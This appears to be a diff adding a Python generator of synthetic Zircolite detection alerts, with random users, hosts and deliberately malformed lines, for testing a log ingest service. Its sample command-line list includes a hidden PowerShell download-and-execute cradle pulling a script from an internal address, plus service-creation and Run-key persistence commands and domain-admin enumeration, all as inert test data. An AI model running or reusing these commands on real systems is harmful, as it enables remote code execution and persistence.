@@ -0,0 +1,104 @@
+import os
+import json
+import random
+from datetime import datetime, timedelta
+
+from synthetic_alerts import build_vocabulary
+
+DOMAINS = ["CORP", "NT AUTHORITY", "LAB"]
+
+COMMAND_LINES = [
+    'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://10.0.0.5/a.ps1\')"',
+    'cmd.exe /c "whoami /all"',
+    'sc.exe create "Updater" binPath= "C:\\Windows\\Temp\\svc.exe"',
+    'reg.exe add "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v "upd" /d "C:\\Users\\Public\\u.exe"',
+    'net.exe group "Domain Admins" /domain',
+]
+
+
+def _system_time(moment, rng):
+    # Zircolite keeps the raw event precision, e.g. 2024-05-01T10:22:31.1234567Z
+    return moment.strftime("%Y-%m-%dT%H:%M:%S") + f".{rng.randrange(10 ** 7):07d}Z"
+
+
+def generate_detection(rng, vocab, moment):
+    """Return one Zircolite detection as a dict with a single matched event."""
+    title, tags, event_id, provider_name, rule_level = rng.choice(vocab["rules"])
+    user = rng.choice(vocab["users"])
+    match = {
+        "row_id": rng.randrange(1, 10 ** 6),
+        "Channel": "Security" if provider_name == "Microsoft-Windows-Security-Auditing" else provider_name,
+        "Computer": rng.choice(vocab["hosts"]).upper(),
+        "EventID": int(event_id),
+        "Provider_Name": provider_name,
+        "SystemTime": _system_time(moment, rng),
+        "Task": str(rng.randint(0, 14000)),
+    }
+    form = rng.random()
+    if form < 0.5:
+        # domain\user form; the ingest service keeps only the part after the backslash
+        match["UserID"] = f"{rng.choice(DOMAINS)}\\{user}"
+    elif form < 0.7:
+        match["SubjectUserName"] = user
+    else:
+        match["UserID"] = f"S-1-5-21-{rng.randrange(10 ** 9)}-{rng.randrange(10 ** 4)}"
+    if rng.random() < 0.4:
+        match["TargetUserName"] = rng.choice(vocab["users"])
+        match["TargetDomainName"] = rng.choice(DOMAINS)
+    if rng.random() < 0.3:
+        match["IpAddress"] = rng.choice(vocab["ips"])
+    if rng.random() < 0.3:
+        # Command lines carry escaped quotes and backslashes
+        match["CommandLine"] = rng.choice(COMMAND_LINES)
+
+    return {
+        "title": title,
+        "id": f"{rng.getrandbits(128):032x}",
+        "description": f'Detects {title.lower()} via "{provider_name}" events',
+        "sigmafile": title.lower().replace(" ", "_") + ".yml",
+        "sigma": [f"SELECT * FROM logs WHERE EventID = '{event_id}'"],
+        "rule_level": rule_level,
+        "tags": tags.split(","),
+        "count": 1,
+        "matches": [match],
+    }
+
+
+def _malformed(line, rng):
+    """Damage a well-formed line the ways real log shipping does."""
+    kind = rng.randrange(4)
+    if kind == 0:
+        return line[: rng.randrange(10, max(11, len(line) // 2))]  # truncated write
+    if kind == 1:
+        return line.replace('"SystemTime":"', '"SystemTime":"not-a-time', 1)
+    if kind == 2:
+        return line.replace('"SystemTime"', '"SysTime"', 1)  # missing timestamp
+    return "   "
+
+
+def generate_lines(n, seed=42, days=1, end=None, malformed_rate=0.01, cardinalities=None):
+    """Yield n Zircolite detection JSON lines in time order, deterministic for a given seed."""
+    vocab = build_vocabulary(seed, cardinalities)
+    rng = random.Random(seed + 2)
+    end = end or datetime.utcnow().replace(microsecond=0)
+    start = end - timedelta(days=days)
+    step = timedelta(days=days) / max(n, 1)
+
+    for i in range(n):
+        line = json.dumps(generate_detection(rng, vocab, start + step * i), separators=(",", ":"))
+        if rng.random() < malformed_rate:
+            line = _malformed(line, rng)
+        yield line
+
+
+def write_log_files(folder, n, files=1, seed=42, **kwargs):
+    """Write n lines spread over `files` files in folder and return their names."""
+    names = [f"zircolite_{i:04d}.json" for i in range(files)]
+    handles = [open(os.path.join(folder, name), "w") for name in names]
+    try:
+        for i, line in enumerate(generate_lines(n, seed=seed, **kwargs)):
+            handles[i % files].write(line + "\n")
+    finally:
+        for handle in handles:
+            handle.close()
+    return names